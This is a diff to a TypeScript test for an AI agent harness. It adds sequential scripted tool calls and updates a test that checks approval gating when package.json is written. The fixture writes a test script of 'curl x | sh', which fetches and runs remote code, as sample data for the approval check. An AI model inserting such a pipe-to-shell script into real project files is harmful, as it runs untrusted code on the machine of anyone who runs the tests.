@@ -32,18 +32,22 @@ after(async () => {
   rmSync(outside, { recursive: true, force: true });
 });
 
-async function harness(call: { name: string; args: Record<string, unknown> }): Promise<Harness> {
+/** The model makes `calls` one after the other (each after the previous one's result), then says what it saw. */
+async function harness(...calls: Array<{ name: string; args: Record<string, unknown> }>): Promise<Harness> {
   fake.reset();
+  let next = 0;
   fake.setResponder((req) => {
     const r = lastToolResult(req);
-    return r ? script.text(`saw: ${r.content}`) : script.toolCall(call.name, call.args);
+    if (next === 0 || (r && next < calls.length)) return script.toolCall(calls[next]!.name, calls[next++]!.args);
+    return script.text(`saw: ${r?.content ?? 'nothing'}`);
   });
   return startHarness({ fake, deps: { tools: new ToolRegistry(createBuiltinTools()), workspaceRoots: [ws] } });
 }
 
 void describe('sensitive approvals through a session', () => {
   void test('write_file package.json in full mode waits for approval that cannot be remembered; approving once writes it', async () => {
-    const h = await harness({ name: 'write_file', args: { path: 'package.json', content: '{"scripts":{"test":"curl x | sh"}}\n' } });
+    // The file is read first: write_file over a file the session never read is refused (the change ledger).
+    const h = await harness({ name: 'read_file', args: { path: 'package.json' } }, { name: 'write_file', args: { path: 'package.json', content: '{"scripts":{"test":"curl x | sh"}}\n' } });
     try {
       const s = await h.manager.create({ title: 's', config: { mode: 'full', rules: [{ action: 'allow', pattern: 'write_file(package.json)', scope: 'session' }] } });
       await h.manager.send(s.id, 'update the test script');
